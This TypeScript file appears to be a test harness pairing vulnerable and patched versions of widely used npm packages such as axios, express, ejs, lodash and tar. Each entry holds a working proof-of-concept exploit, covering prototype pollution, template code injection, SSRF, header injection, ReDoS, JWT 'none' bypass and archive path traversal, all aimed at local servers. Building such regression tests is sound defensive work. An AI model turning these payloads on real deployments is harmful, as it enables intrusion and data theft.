import { type Fix, HTTP, SLOW } from './fixes.ts'

/** More security fixes of packages that are downloaded most, in the same form: where there is time. */

const POLLUTED = `const polluted = (f) => { try { f() } catch {} const bad = ({}).polluted === 'yes'; delete Object.prototype.polluted; return bad };`

const FILES = `const { existsSync, mkdirSync, rmSync, writeFileSync, readFileSync } = require('node:fs');
  const { join, relative, dirname } = require('node:path');`

export const furtherFixes: Fix[] = [
  {
    package: 'axios',
    from: '1.7.3',
    to: '1.7.4',
    setup: `${HTTP}
      const client = lib.create({ timeout: 5_000 });
      const port = listen(http.createServer((req, res) => res.end('at ' + req.url)));`,
    work: `port.then((p) => client.get('http://127.0.0.1:' + p + '/x', { params: { a: 1 } })).then((r) => r.data)`,
    exploit: `port.then((p) => client.get('//127.0.0.1:' + p + '/inside')).then((r) => r.data === 'at /inside', () => false)`,
  },
  {
    package: 'axios',
    from: '1.8.1',
    to: '1.8.2',
    setup: `${HTTP}
      const other = listen(http.createServer((req, res) => res.end(req.headers.authorization)));
      const port = listen(http.createServer((req, res) => { res.statusCode = req.url === '/x' ? 200 : 404; res.end('at ' + req.url) }));
      const client = port.then((p) => lib.create({ baseURL: 'http://127.0.0.1:' + p, allowAbsoluteUrls: false, headers: { authorization: 'secret' } }));`,
    work: `client.then((c) => c.get('/x')).then((r) => r.data)`,
    exploit: `(async () => (await client).get('http://127.0.0.1:' + await other + '/').then((r) => r.data === 'secret', () => false))()`,
  },
  {
    package: 'axios',
    from: '0.21.0',
    to: '0.21.1',
    setup: `${HTTP}
      const other = listen(http.createServer((req, res) => res.end('inside')));
      const proxy = listen(http.createServer(async (req, res) => { if (req.url.endsWith('/from')) { res.writeHead(302, { location: 'http://127.0.0.1:' + await other + '/' }); res.end() } else res.end('by the proxy: ' + req.url) }));
      const client = proxy.then((port) => lib.create({ proxy: { host: '127.0.0.1', port } }));`,
    work: `client.then((c) => c.get('http://example.com/x')).then((r) => r.data)`,
    exploit: `client.then((c) => c.get('http://example.com/from')).then((r) => r.data === 'inside')`,
  },
  {
    package: 'axios',
    from: '0.21.1',
    to: '0.21.2',
    quick: true,
    // A client that was made before has the defaults of then: without it, what comes with the new ones would not be parsed.
    setup: `${HTTP} ${SLOW} const { trim } = require('axios/lib/utils');
      const server = http.createServer((req, res) => { let body = ''; req.on('data', (d) => { body += d }).on('end', () => { res.setHeader('content-type', 'application/json'); res.end(JSON.stringify({ url: req.url, body })) }) });
      const port = listen(server);
      // Each request by a connection of its own, and none that gives up while the exploit holds up the program.
      lib.defaults.httpAgent = new http.Agent();
      const client = lib.create({ headers: { 'x-a': '1' } }); client.interceptors.request.use((config) => config);
      lib.defaults.headers.common['x-b'] = '2';`,
    work: `port.then(async (p) => { const at = 'http://127.0.0.1:' + p; const all = await Promise.all([client.get(at + '/x'), lib.get(at + '/y', { params: { a: 1 } }), client.post(at + '/z', { b: 2 }), lib.create().get(at + '/n')]); return all.map((r) => r.data) })`,
    exploit: `slow(() => trim('a' + ' '.repeat(40_000) + 'a'))`,
  },
  {
    package: 'bl',
    from: '2.2.0',
    to: '2.2.1',
    setup: `const made = Array.from({ length: 9 }, () => new lib(Buffer.from('hello')));`,
    work: `(() => { const list = new lib(Buffer.from('abc')); list.append('def'); list.consume(2); return [list.length, list.toString(), list.slice(1, 3).toString()] })()`,
    exploit: `(() => { const list = made.pop(); list.consume(-100); return list.length > 5 })()`,
  },
  {
    // What is exploited and fixed is qs, which express pins.
    package: 'express',
    from: '4.17.2',
    to: '4.17.3',
    quick: true,
    setup: `${HTTP}
      const app = lib();
      app.get('/', ({ query: { a } }, res) => res.json(typeof a === 'object' && Array.isArray(Object.getPrototypeOf(a))));
      app.get('/work', ({ query }, res) => res.json(query));
      const port = listen(http.createServer(app));`,
    work: `port.then((p) => get(p, '/work?a%5Bb%5D=c&d%5B%5D=1')).then((res) => res.body)`,
    exploit: `port.then((p) => get(p, '/?a%5B__proto__%5D=b&a%5B__proto__%5D&a%5Blength%5D=100')).then((res) => res.body === 'true')`,
  },
  {
    package: 'ejs',
    from: '3.1.9',
    to: '3.1.10',
    setup: `const template = lib.compile('<%= a %>');`,
    work: `[lib.render('<% for (const x of list) { %><%= x %>,<% } %>', { list: ['<', 2] }), template({ a: 1 })]`,
    exploit: `(() => { globalThis.pwned = false; Object.prototype.client = true; Object.prototype.escapeFunction = '(globalThis.pwned = true, String)';
      try { lib.render('<%= 1 %>', {}, {}) } catch {} delete Object.prototype.client; delete Object.prototype.escapeFunction; return globalThis.pwned })()`,
  },
  {
    package: 'ejs',
    from: '3.1.6',
    to: '3.1.7',
    work: `lib.render('<% for (const x of list) { %><%= x %>,<% } %>', { list: ['<', 2] })`,
    exploit: `(() => { globalThis.pwned = false; try { lib.render('x', {}, { outputFunctionName: 'x;globalThis.pwned = true;s' }) } catch {} return globalThis.pwned })()`,
  },
  {
    package: 'engine.io',
    from: '6.2.0',
    to: '6.2.1',
    setup: `${HTTP}
      const { EventEmitter } = require('node:events');
      const server = http.createServer(); lib.attach(server, { destroyUpgrade: true, destroyUpgradeTimeout: 10 }); const port = listen(server);`,
    work: `port.then((p) => get(p, '/engine.io/?EIO=4&transport=polling')).then((r) => [r.status, r.body.slice(0, 8)])`,
    exploit: `new Promise((done) => { const socket = Object.assign(new EventEmitter(), { writable: true, bytesWritten: 0,
      end() { try { socket.emit('error', new Error('ECONNRESET')); done(false) } catch { done(true) } } });
      server.emit('upgrade', { url: '/none', method: 'GET', headers: {} }, socket, Buffer.alloc(0)) })`,
  },
  {
    package: 'express',
    from: '4.19.1',
    to: '4.19.2',
    setup: `${HTTP}
      const app = lib(); app.get('/to', (req, res) => res.redirect(req.query.url)); app.get('/x', (req, res) => res.json({ ok: true })); const port = listen(http.createServer(app));`,
    work: `port.then((p) => Promise.all([get(p, '/x'), get(p, '/to?url=/a%20b')])).then((r) => [r[0].body, r[1].headers.location])`,
    exploit: `port.then((p) => get(p, '/to?url=' + encodeURIComponent('//good.example\\\\@evil.example'))).then((r) => r.headers.location.includes('%5C'))`,
  },
  {
    package: 'express',
    from: '4.19.2',
    to: '4.20.0',
    setup: `${HTTP}
      const app = lib(); app.get('/to', (req, res) => res.redirect(req.query.url)); app.get('/x', (req, res) => res.json({ ok: true })); const port = listen(http.createServer(app));`,
    work: `port.then((p) => get(p, '/x')).then((r) => r.body)`,
    exploit: `port.then((p) => get(p, '/to?url=javascript:alert(1)', { accept: 'text/html' })).then((r) => r.body.includes('<a href='))`,
  },
  {
    package: 'fast-xml-parser',
    from: '4.1.1',
    to: '4.1.2',
    setup: `const parser = new lib.XMLParser({ ignoreAttributes: false });`,
    work: `[parser.parse('<a x="1"><b>2</b><b>3</b></a>'), new lib.XMLBuilder().build({ a: { b: 1 } })]`,
    exploit: `parser.parse('<__proto__><admin>true</admin></__proto__>').admin === true`,
  },
  {
    package: 'flat',
    from: '5.0.0',
    to: '5.0.1',
    setup: POLLUTED,
    work: `[lib({ a: { b: [1, { c: 2 }] } }), lib.unflatten({ 'a.b.0': 1, 'a.c': 2 })]`,
    exploit: `polluted(() => lib.unflatten({ '__proto__.polluted': 'yes' }))`,
  },
  {
    package: 'form-data',
    from: '4.0.3',
    to: '4.0.4',
    setup: `const made = Array.from({ length: 9 }, () => new lib());`,
    work: `(() => { const form = new lib(); form.setBoundary('x'); form.append('a', 'b'); return form.getBuffer().toString() })()`,
    exploit: `(() => { const { random } = Math; Math.random = () => 0.5; const boundary = made.pop().getBoundary(); Math.random = random; return boundary.endsWith('5555555555') })()`,
  },
  {
    package: 'got',
    from: '11.8.3',
    to: '11.8.5',
    setup: `${HTTP}
      const { join } = require('node:path'); const client = lib.extend({ retry: 0 });
      const inside = new Promise((done) => { const server = http.createServer((req, res) => res.end('inside')).listen(join(__dirname, 's'), () => done()) });
      const port = listen(http.createServer((req, res) => { if (req.url === '/from') { res.writeHead(302, { location: 'http://unix:' + join(__dirname, 's') + ':/x' }); res.end() } else res.end('at ' + req.url) }));`,
    work: `port.then((p) => client('http://127.0.0.1:' + p + '/x').text())`,
    exploit: `Promise.all([port, inside]).then(([p]) => client('http://127.0.0.1:' + p + '/from').text()).then((t) => t === 'inside', () => false)`,
  },
  {
    package: 'handlebars',
    from: '4.7.6',
    to: '4.7.7',
    setup: `const template = lib.compile('{{constructor}}', { strict: true }); const list = lib.compile('{{#each a}}{{b}},{{/each}}');`,
    work: `list({ a: [{ b: '<' }, { b: 2 }] })`,
    exploit: `template({}) === '[object Object]'`,
  },
  {
    package: 'ip',
    from: '1.1.8',
    to: '1.1.9',
    work: `[lib.isPublic('8.8.8.8'), lib.isPrivate('10.0.0.1'), lib.cidr('192.168.1.134/26')]`,
    exploit: `lib.isPublic('0x7f.1')`,
  },
  {
    package: 'is-svg',
    from: '4.2.1',
    to: '4.2.2',
    setup: SLOW,
    work: `[lib('<svg xmlns="http://www.w3.org/2000/svg"></svg>'), lib('<!DOCTYPE svg [ <!ENTITY x "y"> ]><svg></svg>'), lib('x')]`,
    exploit: `slow(() => lib('<!doctype svg ' + '['.repeat(2_000) ))`,
  },
  {
    package: 'jose',
    from: '2.0.6',
    to: '2.0.7',
    setup: `const key = lib.JWK.generateSync('oct', 256); const sealed = (text) => lib.JWE.encrypt(text, key, { alg: 'dir', enc: 'A256GCM', zip: 'DEF' }); const bomb = sealed('a'.repeat(1_000_000));`,
    work: `lib.JWE.decrypt(sealed('hello'), key).toString()`,
    exploit: `(() => { try { return lib.JWE.decrypt(bomb, key).length === 1_000_000 } catch { return false } })()`,
  },
  {
    package: 'js-yaml',
    from: '3.13.0',
    to: '3.13.1',
    work: `[lib.load('a: [1, {b: c}]\\nd: !!set {x, y}'), lib.dump({ a: [1] })]`,
    exploit: `(() => { globalThis.pwned = false; try { lib.load('{ toString: !<tag:yaml.org,2002:js/function> "function () { globalThis.pwned = true }" } : 1') } catch {} return globalThis.pwned })()`,
  },
  {
    package: 'js-yaml',
    from: '4.1.0',
    to: '4.1.1',
    work: `[lib.load('a: &x {b: 1}\\nc: {<<: *x, d: 2}'), lib.dump({ a: [1] })]`,
    exploit: `lib.load('a: &x {__proto__: {admin: true}}\\nb: {<<: *x}').b.admin === true`,
  },
  {
    package: 'jsonpointer',
    from: '4.1.0',
    to: '5.0.0',
    setup: `${POLLUTED} const pointer = lib.compile('/a/b');`,
    work: `[lib.get({ a: { b: 1 } }, '/a/b'), pointer.get({ a: { b: 2 } }), (() => { const o = {}; lib.set(o, '/a/b', 1); return o })()]`,
    exploit: `polluted(() => lib.set({}, '/a/__proto__/polluted', 'yes'))`,
  },
  {
    package: 'jsonwebtoken',
    from: '8.5.1',
    to: '9.0.0',
    setup: `const none = lib.sign({ admin: true }, null, { algorithm: 'none', noTimestamp: true });`,
    work: `(() => { const token = lib.sign({ a: 1 }, 'secret', { noTimestamp: true }); return [token, lib.verify(token, 'secret')] })()`,
    exploit: `(() => { try { return lib.verify(none, undefined).admin === true } catch { return false } })()`,
  },
  {
    package: 'jszip',
    from: '3.7.1',
    to: '3.8.0',
    setup: `const made = Array.from({ length: 9 }, () => new lib()); const evil = (() => { const zip = new lib(); zip.file('../../evil.txt', 'x'); return zip.generateAsync({ type: 'nodebuffer' }) })();`,
    work: `(async () => { const zip = new lib(); zip.file('a/b.txt', 'hello'); const read = await new lib().loadAsync(await zip.generateAsync({ type: 'nodebuffer' })); return [Object.keys(read.files), await read.file('a/b.txt').async('string')] })()`,
    exploit: `evil.then((data) => made.pop().loadAsync(data)).then((zip) => Object.keys(zip.files).includes('../../evil.txt'))`,
  },
  {
    package: 'koa',
    from: '2.15.3',
    to: '2.15.4',
    setup: `${HTTP} ${SLOW}
      const app = new lib({ proxy: true }); app.use((ctx) => { ctx.body = ctx.protocol + ' ' + ctx.host + ' ' + ctx.ips }); const port = listen(app.listen ? http.createServer(app.callback()) : 0);
      const context = app.createContext({ headers: { 'x-forwarded-proto': 'a' + ' '.repeat(60_000) + 'a' }, socket: {} }, {});`,
    work: `port.then((p) => get(p, '/', { 'x-forwarded-proto': 'https, http', 'x-forwarded-for': '1.1.1.1 , 2.2.2.2', host: 'h' })).then((r) => r.body)`,
    exploit: `slow(() => context.protocol)`,
  },
  {
    package: 'lodash.template',
    from: '4.4.0',
    to: '4.5.0',
    setup: `const template = lib('<%= a %>');`,
    work: `[template({ a: 1 }), lib('<% for (const x of l) { %><%- x %><% } %>')({ l: ['<', 2] })]`,
    exploit: `(() => { globalThis.pwned = false; try { lib('', { sourceURL: '\\nglobalThis.pwned = true//' })() } catch {} return globalThis.pwned })()`,
  },
  {
    package: 'lodash.merge',
    from: '4.6.1',
    to: '4.6.2',
    setup: POLLUTED,
    work: `lib({ a: [1, { b: 2 }] }, { a: [{ c: 3 }, { d: 4 }], e: null })`,
    exploit: `polluted(() => lib({}, JSON.parse('{"constructor": {"prototype": {"polluted": "yes"}}}')))`,
  },
  {
    package: 'luxon',
    from: '3.2.0',
    to: '3.2.1',
    setup: SLOW,
    work: `[lib.DateTime.fromRFC2822('Tue, 01 Nov 2016 13:23:12 (x) +0630').toMillis(), lib.DateTime.fromISO('2020-01-01', { zone: 'utc' }).toISO()]`,
    exploit: `slow(() => lib.DateTime.fromRFC2822('('.repeat(60_000)))`,
  },
  {
    package: 'marked',
    from: '4.0.9',
    to: '4.0.10',
    setup: SLOW,
    work: `lib.parse('# a\\n\\n[x]: y "z"\\n\\n[x] *b*')`,
    exploit: `slow(() => lib.parse('[x]: x\\n\\n' + '\\\\[\\\\]('.repeat(26)))`,
  },
  {
    package: 'micromatch',
    from: '4.0.7',
    to: '4.0.8',
    setup: SLOW,
    work: `[lib(['a.js', 'b.md'], '*.{js,ts}'), lib.braces('{a,b}c'), lib.braces('x')]`,
    exploit: `slow(() => lib.braces('{'.repeat(50_000)))`,
  },
  {
    package: 'moment',
    from: '2.29.1',
    to: '2.29.2',
    setup: `${FILES} writeFileSync(join(__dirname, 'evil.js'), 'globalThis.pwned = true; require(' + JSON.stringify(require.resolve('moment')) + ').defineLocale("evil", {})');
      const evil = relative(join(dirname(require.resolve('moment')), 'locale'), join(__dirname, 'evil'));`,
    work: `[lib.utc(0).locale('de').format('LLLL'), lib.utc(0).locale('none').format('LL')]`,
    exploit: `(() => { globalThis.pwned = false; delete require.cache[join(__dirname, 'evil.js')]; const before = console.warn; console.warn = () => {}; lib.locale(evil); lib.locale('en'); console.warn = before; return globalThis.pwned })()`,
  },
  {
    package: 'moment',
    from: '2.29.3',
    to: '2.29.4',
    setup: SLOW,
    work: `lib.utc('Mon, 25 Dec 1995 13:30:00 GMT', lib.RFC_2822).toISOString()`,
    exploit: `slow(() => lib('('.repeat(40_000), lib.RFC_2822))`,
  },
  {
    package: 'nanoid',
    from: '3.3.7',
    to: '3.3.8',
    work: `[lib.nanoid().length, lib.customAlphabet('ab', 7)().length]`,
    exploit: `(() => { lib.nanoid(20.5); const id = lib.nanoid(); lib.nanoid(20.5); return new Set(id).size === 1 })()`,
  },
  {
    package: 'node-forge',
    from: '1.3.1',
    to: '1.3.2',
    work: `[lib.md.sha256.create().update('x').digest().toHex(), lib.asn1.fromDer('\\x30\\x03\\x02\\x01\\x05').value[0].value]`,
    exploit: `(() => { try { lib.asn1.fromDer('\\x30\\x80'.repeat(30_000)); return true } catch (error) { return error instanceof RangeError } })()`,
  },
  {
    package: 'nodemailer',
    from: '6.6.0',
    to: '6.6.1',
    setup: `const transport = lib.createTransport({ streamTransport: true, buffer: true });`,
    work: `transport.sendMail({ from: 'A <a@x.org>', to: 'b@y.org', subject: 's', text: 't', messageId: '<m@x>', date: new Date(0) }).then((m) => m.message.toString())`,
    exploit: `transport.sendMail({ from: 'a@x.org', to: { name: 'b', address: 'b@y.org>\\r\\nX-Injected: yes\\r\\n<c@z.org' }, text: 't' }).then((m) => /^X-Injected/m.test(m.message.toString()))`,
  },
  {
    package: 'nodemailer',
    from: '6.9.8',
    to: '6.9.9',
    setup: `${SLOW} const transport = lib.createTransport({ streamTransport: true, buffer: true });`,
    work: `transport.sendMail({ from: 'A <a@x.org>', to: 'b@y.org', html: '<img src="data:image/png;base64,aGk=">', attachDataUrls: true }).then((m) => m.message.toString().includes('cid:'))`,
    exploit: `(async () => { const t = performance.now(); await transport.sendMail({ from: 'a@x.org', to: 'b@y.org', attachments: [{ path: 'data:text/plain' + ';a'.repeat(60_000) }] }).catch(() => {}); return performance.now() - t > 300 })()`,
  },
  {
    package: 'normalize-url',
    from: '4.5.0',
    to: '4.5.1',
    setup: SLOW,
    work: `[lib('//www.sindresorhus.com:80/../baz?b=bar&a=foo'), lib('data:text/plain;charset=utf-8,hi')]`,
    exploit: `slow(() => lib('data:' + ',#'.repeat(1_200) + '\\ra'))`,
  },
  {
    package: 'object-path',
    from: '0.11.7',
    to: '0.11.8',
    setup: POLLUTED,
    work: `[lib.get({ a: { b: [1] } }, 'a.b.0'), (() => { const o = {}; lib.set(o, 'a.b', 1); lib.del(o, 'a.b'); return o })()]`,
    exploit: `(() => { Object.prototype.kept = 1; try { lib.withInheritedProps.del({}, [['__proto__'], 'kept']) } catch {} const bad = !('kept' in {}); delete Object.prototype.kept; return bad })()`,
  },
  {
    package: 'on-headers',
    from: '1.0.2',
    to: '1.1.0',
    setup: `${HTTP}
      const port = listen(http.createServer((req, res) => { lib(res, function () { this.setHeader('x-on', 'yes') }); try { if (req.url === '/x') res.writeHead(200, { a: '1' }); else res.writeHead(200, ['set-cookie', 'a=1', 'b', '2']); res.end('ok') } catch (e) { res.end(String(e)) } }));`,
    work: `port.then((p) => get(p, '/x')).then((r) => [r.headers.a, r.headers['x-on']])`,
    exploit: `port.then((p) => get(p, '/y')).then((r) => r.headers.b !== '2')`,
  },
  {
    package: 'postcss',
    from: '8.4.30',
    to: '8.4.31',
    setup: `const processor = lib([]);`,
    work: `processor.process('a{b:c} @x (y) {}', { from: undefined }).then((r) => r.css)`,
    exploit: `(() => { try { return lib.parse('a{ b:(\\r/*);} c{d:e} /*x*/').nodes.length === 3 } catch { return false } })()`,
  },
  {
    package: 'property-expr',
    from: '2.0.2',
    to: '2.0.3',
    setup: POLLUTED,
    work: `[lib.getter('a.b[0]')({ a: { b: [7] } }), lib.split('a.b["c"]')]`,
    exploit: `polluted(() => lib.setter('constructor.prototype.polluted')({}, 'yes'))`,
  },
  {
    package: 'sanitize-html',
    from: '2.3.1',
    to: '2.3.2',
    work: `lib('<p onclick="x">a<script>b</script><iframe src="https://good.example/x"></iframe></p>', { allowedTags: ['p', 'iframe'], allowedAttributes: { iframe: ['src'] }, allowedIframeHostnames: ['good.example'] })`,
    exploit: `lib('<iframe src="/\\\\evil.example">', { allowedTags: ['iframe'], allowedAttributes: { iframe: ['src'] }, allowedIframeHostnames: ['good.example'], allowIframeRelativeUrls: true }).includes('evil')`,
  },
  {
    package: 'serialize-javascript',
    from: '6.0.1',
    to: '6.0.2',
    work: `[lib({ a: /x/g, b: new Map([[1, 2]]), c: '</script>' }), lib([undefined])]`,
    exploit: `lib(new URL('x:</script>')).includes('</script>')`,
  },
  {
    package: 'set-value',
    from: '3.0.0',
    to: '3.0.1',
    setup: POLLUTED,
    work: `lib({ a: 1 }, 'b.c', 2)`,
    exploit: `polluted(() => lib({}, ['__proto__', 'polluted'], 'yes')) || polluted(() => lib({}, '__proto__.polluted', 'yes'))`,
  },
  {
    package: 'shell-quote',
    from: '1.7.2',
    to: '1.7.3',
    work: `[lib.quote(['a b', "c'd", '$e']), lib.parse('a "b c" | d')]`,
    exploit: `lib.quote(['\`:\`id\`\`:\`']).startsWith('\`')`,
  },
  {
    package: 'simple-get',
    from: '4.0.0',
    to: '4.0.1',
    setup: `${HTTP}
      const other = listen(http.createServer((req, res) => res.end(String(req.headers.cookie))));
      const port = listen(http.createServer(async (req, res) => { if (req.url === '/away') { res.writeHead(302, { location: 'http://localhost:' + await other + '/' }); res.end() } else res.end('at ' + req.url) }));
      const concat = (options) => new Promise((done, fail) => lib.concat(options, (error, res, data) => error ? fail(error) : done(String(data))));`,
    work: `port.then((p) => concat('http://127.0.0.1:' + p + '/x'))`,
    exploit: `port.then((p) => concat({ url: 'http://127.0.0.1:' + p + '/away', headers: { cookie: 'secret' } })).then((t) => t === 'secret')`,
  },
  {
    package: 'socket.io-parser',
    from: '4.2.2',
    to: '4.2.3',
    setup: `const decoder = new lib.Decoder(); const decoded = []; decoder.on('decoded', (packet) => decoded.push(packet));`,
    work: `(() => { decoder.add('2["a",{"b":1}]'); return [decoded.pop(), new lib.Encoder().encode({ type: 2, nsp: '/', data: ['x', 1] })] })()`,
    exploit: `(() => { try { decoder.add('2[{"toString":"x"}]'); return decoded.pop() !== undefined } catch { return false } })()`,
  },
  {
    package: 'sqlstring',
    from: '2.3.0',
    to: '2.3.1',
    work: `[lib.format('SELECT ?? FROM t WHERE a = ?', ['x', "y'"]), lib.escape(null)]`,
    exploit: `lib.format('SELECT ??? LIKE', ['a', 'b']) !== 'SELECT ??? LIKE'`,
  },
  {
    package: 'ssri',
    from: '8.0.0',
    to: '8.0.1',
    setup: SLOW,
    work: `[String(lib.fromData('x')), String(lib.parse('sha512-WrLorGiX4iEWOOOaJSiCrmDIamA47exH+Bz7tVwIPb4sCU8w4iNqGCqYuspMMeU5pgz/sU7koP5u8W3RCUojGw==?a', { strict: true }))]`,
    exploit: `slow(() => lib.parse('sha512-' + 'a'.repeat(86) + '==' + '?'.repeat(27) + '\\u0001', { strict: true, single: true }))`,
  },
  {
    package: 'tar',
    from: '6.2.0',
    to: '6.2.1',
    setup: `${FILES} const out = join(__dirname, 'out'); mkdirSync(out); writeFileSync(join(__dirname, 'a.txt'), 'text');
      const header = (path) => { const h = new lib.Header({ path, mode: 0o755, size: 0, type: 'Directory', mtime: new Date(0) }); h.encode(); return h.block };
      let tries = 0;
      const unpacked = (make) => new Promise((done) => { const unpack = new lib.Unpack({ cwd: out }); const warned = []; unpack.on('warn', (code, message) => warned.push(message)).on('close', () => done(warned)).on('error', () => done('error')); make(unpack) });
      const deep = ++tries;`,
    work: `unpacked((u) => { u.end(Buffer.concat([header('x/y/'), Buffer.alloc(1024)])) }).then((w) => [w, existsSync(join(out, 'x', 'y'))])`,
    exploit: `(async () => { const path = Array(1_100).fill('a').join('/') + '/'; const pax = new lib.Pax({ path, mtime: new Date(0) }).encode();
      const warned = await unpacked((u) => { u.end(Buffer.concat([pax, header('a/'), Buffer.alloc(1024)])) }); rmSync(join(out, 'a'), { recursive: true, force: true }); return !String(warned).includes('deep') })()`,
  },
  {
    package: 'tar-fs',
    from: '2.1.1',
    to: '2.1.2',
    setup: `${FILES} const tar = require('tar-stream'); let tries = 0;
      const extracted = (entry) => new Promise((done) => { const folder = join(__dirname, 'out' + ++tries); const pack = tar.pack(); pack.entry(entry, entry.type ? undefined : 'text'); pack.finalize();
        pack.pipe(lib.extract(folder)).on('finish', () => done([folder])).on('error', (error) => done([folder, error.message])) });`,
    work: `extracted({ name: 'a.txt' }).then(([folder]) => readFileSync(join(folder, 'a.txt'), 'utf8'))`,
    exploit: `extracted({ name: 'link', type: 'symlink', linkname: '../../../etc' }).then(([, error]) => error === undefined)`,
  },
  {
    package: 'trim',
    from: '0.0.1',
    to: '0.0.2',
    setup: SLOW,
    work: `[lib('  a '), lib.left(' a '), lib.right(' a ')]`,
    exploit: `slow(() => lib('a' + ' '.repeat(60_000) + 'a'))`,
  },
  {
    package: 'ua-parser-js',
    from: '1.0.32',
    to: '1.0.33',
    setup: `${SLOW} const parser = new lib('Mozilla/5.0 (X11; Linux x86_64) Firefox/109.0');`,
    work: `[parser.getResult(), lib('Mozilla/5.0 (iPhone; CPU iPhone OS 15_0 like Mac OS X) Safari/604.1').os]`,
    exploit: `slow(() => lib('a' + ' '.repeat(60_000) + 'a'))`,
  },
  {
    package: 'undici',
    from: '5.8.0',
    to: '5.8.2',
    setup: `${HTTP}
      const other = listen(http.createServer((req, res) => res.end('inside')));
      const port = listen(http.createServer((req, res) => { res.setHeader('connection', 'close'); res.end('at ' + req.url) }));
      const agent = new lib.Agent();`,
    work: `port.then((p) => lib.request('http://127.0.0.1:' + p + '/x', { dispatcher: agent })).then((r) => r.body.text())`,
    exploit: `(async () => (await lib.request({ origin: 'http://127.0.0.1:' + await port, pathname: '//127.0.0.1:' + await other + '/' }, { dispatcher: agent })).body.text())().then((t) => t === 'inside')`,
  },
  {
    package: 'undici',
    from: '5.19.0',
    to: '5.19.1',
    setup: `${HTTP} ${SLOW}
      const port = listen(http.createServer((req, res) => { res.end('at ' + req.url + ' ' + req.headers['x-injected']) }));
      const client = port.then((p) => new lib.Client('http://127.0.0.1:' + p)); const headers = new lib.Headers();`,
    work: `client.then((c) => c.request({ path: '/x', method: 'GET', headers: { a: 'b' } })).then((r) => r.body.text())`,
    exploit: `client.then((c) => c.request({ path: '/y', method: 'GET', headers: { host: 'a\\r\\nx-injected: yes' } })).then((r) => r.body.text()).then((t) => t.endsWith('yes'), () => false)`,
  },
  {
    package: 'url-parse',
    from: '1.5.8',
    to: '1.5.9',
    work: `[lib('http://a.b:80/c?d#e').href, new lib('/x', 'http://y/').host]`,
    exploit: `new lib('\\bhttp://google.com').hostname !== 'google.com'`,
  },
  {
    package: 'validator',
    from: '13.6.0',
    to: '13.7.0',
    setup: SLOW,
    work: `[lib.rtrim(' a '), lib.isEmail('a@b.org'), lib.isSlug('a-b')]`,
    exploit: `slow(() => lib.rtrim('a' + ' '.repeat(60_000) + 'a'))`,
  },
  {
    package: 'xml2js',
    from: '0.4.23',
    to: '0.5.0',
    setup: `const parser = new lib.Parser();`,
    work: `Promise.all([parser.parseStringPromise('<a x="1"><b>2</b></a>'), new lib.Builder({ headless: true }).buildObject({ a: { b: 1 } })])`,
    exploit: `new lib.Parser().parseStringPromise('<__proto__><admin>yes</admin></__proto__>').then((o) => o.admin?.[0] === 'yes' || Object.hasOwn(o, 'x'))`,
  },
  {
    package: '@xmldom/xmldom',
    from: '0.8.3',
    to: '0.8.4',
    setup: `const parser = new lib.DOMParser({ errorHandler() {} });`,
    work: `String(parser.parseFromString('<a x="1"><b/>t</a>', 'text/xml'))`,
    exploit: `(() => { try { return parser.parseFromString('<a/><b/>', 'text/xml').childNodes.length === 2 } catch { return false } })()`,
  },
  {
    package: 'yargs-parser',
    from: '13.1.1',
    to: '13.1.2',
    setup: POLLUTED,
    work: `lib('--a.b 1 --no-c -xyz')`,
    exploit: `polluted(() => lib('--foo.__proto__.polluted yes')) || polluted(() => lib('--foo.bar.__proto__.polluted yes'))`,
  },
  {
    package: 'zod',
    from: '3.22.2',
    to: '3.22.3',
    setup: `${SLOW} const schema = lib.z.object({ email: lib.z.string().email() });`,
    work: `[schema.safeParse({ email: 'a@b.org' }).success, schema.safeParse({ email: 'x' }).success]`,
    exploit: `slow(() => schema.safeParse({ email: 'a'.repeat(33) }))`,
  },
  {
    package: 'cookiejar',
    from: '2.1.3',
    to: '2.1.4',
    setup: `${SLOW} const jar = new lib.CookieJar();`,
    work: `[String(new lib.Cookie('a=b; path=/; domain=x.org')), (jar.setCookie('c=d', 'x.org', '/'), jar.getCookies(lib.CookieAccessInfo('x.org', '/')).toValueString())]`,
    exploit: `slow(() => new lib.CookieJar().setCookie('a=b; ' + ' '.repeat(60_000) + 'x')) || slow(() => new lib.Cookie('a' + ' '.repeat(60_000) + 'b'))`,
  },
  {
    package: 'elliptic',
    from: '6.5.6',
    to: '6.5.7',
    setup: `const key = new lib.eddsa('ed25519').keyFromSecret('61233ca4590acd'); const signature = key.sign('af54').toHex(); const pair = new lib.ec('secp256k1').keyFromPrivate('0123');`,
    work: `[key.verify('af54', signature), pair.verify('ab', pair.sign('ab').toDER()), signature]`,
    exploit: `(() => { try { return key.verify('af54', signature + '0000') } catch { return false } })()`,
  },
  {
    package: 'fastify',
    from: '4.8.0',
    to: '4.8.1',
    setup: `const app = lib(); app.addContentTypeParser('text/x', { parseAs: 'string' }, (request, body, done) => done(null, 'x' + body));
      app.addContentTypeParser(/^image/, { parseAs: 'string' }, (request, body, done) => done(null, 'image' + body)); app.post('/', async ({ body }) => body);
      const send = (type, payload) => app.inject({ method: 'POST', url: '/', headers: { 'content-type': type }, payload }).then((r) => [r.statusCode, r.body]);`,
    work: `Promise.all([send('application/json', '{"a":1}'), send('text/x', 'b'), send('image/png', 'c'), send('text/y', 'd').then(([status]) => status)])`,
    exploit: `send('constructor', 'x').then(() => false, ({ message }) => /fn is not a function/.test(message))`,
  },
  {
    package: 'fastify',
    from: '5.3.1',
    to: '5.3.2',
    setup: `const app = lib(); app.post('/', { schema: { body: { content: { 'application/json': { schema: { type: 'object', required: ['name'], properties: { name: { type: 'string' } } } } } } } }, async () => 'taken');
      const send = (type, body) => app.inject({ method: 'POST', url: '/', headers: { 'content-type': type }, payload: body }).then((r) => [r.statusCode, r.body]);`,
    work: `Promise.all([send('application/json', '{"name":"x"}'), send('application/json', '{}')])`,
    exploit: `send('application/json x', '{}').then(([status]) => status === 200)`,
  },
  {
    package: '@grpc/grpc-js',
    from: '1.9.14',
    to: '1.9.15',
    setup: `const { CompressionFilterFactory } = require('@grpc/grpc-js/build/src/compression-filter'); const zlib = require('node:zlib');
      const factory = new CompressionFilterFactory({ getTarget: () => '' }, { 'grpc.max_receive_message_length': 1000 });
      const receive = async (size) => {
        const filter = factory.createFilter({}); const metadata = new lib.Metadata(); metadata.set('grpc-encoding', 'gzip'); filter.receiveMetadata(metadata);
        const packed = zlib.gzipSync(Buffer.alloc(size)); const head = Buffer.alloc(5); head[0] = 1; head.writeUInt32BE(packed.length, 1);
        return filter.receiveMessage(Promise.resolve(Buffer.concat([head, packed]))).then(({ length }) => length)
      };`,
    work: `Promise.all([receive(10), receive(900)])`,
    exploit: `receive(5_000_000).then((length) => length === 5_000_000, () => false)`,
  },
  {
